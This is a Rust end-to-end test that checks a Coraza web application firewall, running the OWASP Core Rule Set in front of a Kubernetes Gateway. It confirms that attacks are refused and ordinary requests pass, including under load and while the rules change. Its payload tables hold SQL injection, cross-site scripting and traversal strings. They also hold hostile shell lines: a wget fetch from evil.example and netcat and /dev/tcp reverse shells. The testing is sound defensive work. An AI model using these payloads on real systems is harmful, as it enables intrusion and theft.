//! The Core Rule Set before a real Gateway: attacks are refused, what people do isn't, and each verdict is right under load and while rules change. *Shared*.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by a panic"
)]

use std::fmt::Write as _;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use coraza_api::{Engine, RuleSet};
use coraza_e2e::mesh::Mesh;
use coraza_e2e::protected::{engine, send};
use coraza_e2e::{Namespace, Protected, cluster, environment, until_within};
use http::Request;
use serde_json::json;
use tokio::task::JoinSet;

/// The whole Core Rule Set is compiled by the controller and in two VMs, by programs that aren't optimised, on a machine that may be busy.
const PATIENCE: Duration = Duration::from_secs(120);

/// The RuleSet that `kubectl coraza generate coreruleset` makes.
const RULESET: &str = "default-ruleset";

const SQL_INJECTION: [&str; 12] = [
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users",
    "1'; DROP TABLE users--",
    "1' AND SLEEP(5)--",
    "admin' OR 1=1#",
    "1) OR (1=1",
    "1' UNION ALL SELECT NULL,NULL,NULL--",
    "1; EXEC xp_cmdshell('dir')",
    "1' AND 1=CONVERT(int,(SELECT @@version))--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
];

const CROSS_SITE_SCRIPTING: [&str; 10] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
];

const TRAVERSAL: [&str; 6] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "/proc/self/environ",
];

const COMMAND_INJECTION: [&str; 9] = [
    "; cat /etc/passwd",
    "| ls -la /etc",
    "`cat /etc/hosts`",
    "$(cat /etc/hosts)",
    "&& wget http://evil.example/x.sh",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "| ping -c 10 127.0.0.1",
    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "() { :;}; /bin/bash -c id",
];

/// Method, path, a header field.
const PROTOCOL: [(&str, &str, (&str, &str)); 7] = [
    ("DELETE", "/", ("x-any", "1")),
    ("GET", "/.git/config", ("x-any", "1")),
    ("GET", "/backup.sql", ("x-any", "1")),
    ("GET", "/?q=a%00b", ("x-any", "1")),
    ("GET", "/?q=a%0d%0aSet-Cookie:%20a=b", ("x-any", "1")),
    ("GET", "/", ("user-agent", "sqlmap/1.8")),
    ("GET", "/", ("x-http-method-override", "DELETE")),
];

const BENIGN: [&str; 8] = [
    "hello world",
    "42",
    "blue shoes size 9",
    "jane@example.com",
    "2026-11-30",
    "Grüße aus Köln",
    "https://shop.example/sale",
    "please select a colour",
];

/// A request, and whether it is to be refused.
#[derive(Clone)]
struct Case {
    what: String,
    request: Request<String>,
    refused: bool,
}

impl Case {
    fn new(request: http::request::Builder, body: &str, refused: bool) -> Self {
        let request = request.body(body.to_owned()).unwrap();
        let what = format!("{} {} {:?} {body}", request.method(), request.uri(), request.headers());
        Self { what, request, refused }
    }

    /// A value as a form has it: in the query, and in the body.
    fn of_form(value: &str, refused: bool) -> [Self; 2] {
        let form = format!("q={}", encoded(value));
        let post = Request::post("/search").header("content-type", "application/x-www-form-urlencoded");
        [
            Self::new(Request::get(format!("/search?{form}")), "", refused),
            Self::new(post, &form, refused),
        ]
    }

    /// What is wrong with its verdict.
    async fn check(&self, protected: &Protected) -> Result<(), String> {
        let answer = send(&protected.gateway, self.request.clone()).await;
        let status = answer
            .map_err(|error| format!("{}: {error:#}", self.what))?
            .status
            .as_u16();
        let wanted = if self.refused { 403 } else { 200 };
        if status == wanted {
            Ok(())
        } else {
            Err(format!("{status} for {}", self.what))
        }
    }
}

/// All but letters and digits as bytes in percent signs.
fn encoded(value: &str) -> String {
    value.bytes().fold(String::new(), |mut text, byte| {
        if byte.is_ascii_alphanumeric() {
            text.push(char::from(byte));
        } else {
            let _ = write!(text, "%{byte:02X}");
        }
        text
    })
}

fn attacks() -> Vec<Case> {
    let tables = [
        SQL_INJECTION.as_slice(),
        &CROSS_SITE_SCRIPTING,
        &TRAVERSAL,
        &COMMAND_INJECTION,
    ];
    let forms = tables
        .into_iter()
        .flatten()
        .flat_map(|value| Case::of_form(value, true));
    let protocol = PROTOCOL.iter().map(|(method, path, (name, value))| {
        Case::new(
            Request::builder().method(*method).uri(*path).header(*name, *value),
            "",
            true,
        )
    });
    forms.chain(protocol).collect()
}

fn benign() -> Vec<Case> {
    let forms = BENIGN.iter().flat_map(|value| Case::of_form(value, false));
    let json = Request::post("/cart").header("content-type", "application/json");
    let others = [
        Case::new(Request::get("/"), "", false),
        Case::new(Request::get("/products/shoes?page=2&sort=price"), "", false),
        Case::new(
            Request::get("/style.css").header("referer", "https://shop.example/"),
            "",
            false,
        ),
        Case::new(Request::head("/"), "", false),
        Case::new(
            json,
            r#"{"items": [{"id": 7, "count": 2}], "note": "ring twice"}"#,
            false,
        ),
    ];
    forms.chain(others).collect()
}

/// The Core Rule Set, which blocks, before a Gateway.
async fn with_core_rule_set() -> Protected {
    let namespace = Namespace::create().await;
    let generated = Command::new(&environment().kubectl_plugin)
        .args([
            "generate",
            "coreruleset",
            "--version",
            "4.25.0",
            "--namespace",
            &namespace.name,
            "--rules-dir",
        ])
        .arg(environment().core_rule_set.join("rules/@owasp_crs"))
        .output()
        .unwrap();
    assert!(
        generated.status.success(),
        "{}",
        String::from_utf8_lossy(&generated.stderr)
    );
    let file = environment().logs.join(format!("{}.yaml", namespace.name));
    std::fs::write(&file, generated.stdout).unwrap();
    cluster::apply(&[&file]);
    namespace
        .condition_within::<RuleSet>(PATIENCE, RULESET, ("Ready", "True", "RulesCached"))
        .await;
    let protected = Protected::before(namespace).await;
    protected.namespace.apply::<Engine>("waf", engine("web", RULESET)).await;
    let [attack, _] = Case::of_form(SQL_INJECTION[0], true);
    let [fine, _] = Case::of_form(BENIGN[0], false);
    until_within(PATIENCE, "the Core Rule Set to be enforced", async || {
        attack.check(&protected).await?;
        fine.check(&protected).await
    })
    .await;
    protected
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a cluster: cargo xtask test"]
async fn each_verdict_is_right_one_by_one_and_under_load_while_rules_change() {
    Mesh::shared_with_plugin().await;
    let protected = Arc::new(with_core_rule_set().await);
    let cases: Arc<[Case]> = attacks().into_iter().chain(benign()).collect();
    let mut wrong = Vec::new();
    for case in cases.iter() {
        wrong.extend(case.check(&protected).await.err());
    }
    assert_eq!(wrong, Vec::<String>::new());

    // Workers that each send all of it, from another place on, until the rules were edited three times.
    let (edited, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
    let mut workers = JoinSet::new();
    for worker in 0..10 {
        let (protected, cases) = (Arc::clone(&protected), Arc::clone(&cases));
        let (edited, sent) = (Arc::clone(&edited), Arc::clone(&sent));
        workers.spawn(async move {
            let mut wrong = Vec::new();
            for case in cases.iter().cycle().skip(worker * 11) {
                if edited.load(Ordering::Relaxed) && sent.load(Ordering::Relaxed) >= 1_000 {
                    break;
                }
                wrong.extend(case.check(&protected).await.err());
                sent.fetch_add(1, Ordering::Relaxed);
            }
            wrong
        });
    }
    let sources = protected.namespace.get_ruleset(RULESET).await.spec.sources;
    let mut names: Vec<String> = sources.into_iter().map(|source| source.name).collect();
    names.push("own".to_owned());
    for edit in 0..3 {
        let rule = format!("SecRule ARGS:own \"@streq {edit}\" \"id:10001,phase:1,deny,status:403\"");
        protected.namespace.source("own", &rule).await;
        let listed: Vec<_> = names.iter().map(|name| json!({ "name": name })).collect();
        let data: Vec<_> = protected
            .namespace
            .get_ruleset(RULESET)
            .await
            .spec
            .data
            .into_iter()
            .flatten()
            .collect();
        let spec = json!({ "sources": listed, "data": data });
        protected.namespace.apply::<RuleSet>(RULESET, spec).await;
        let own = Case::new(Request::get(format!("/?own={edit}")), "", true);
        until_within(PATIENCE, "the edit to be enforced", async || {
            own.check(&protected).await
        })
        .await;
    }
    edited.store(true, Ordering::Relaxed);
    let wrong: Vec<String> = workers.join_all().await.into_iter().flatten().collect();
    assert_eq!(wrong, Vec::<String>::new());
}
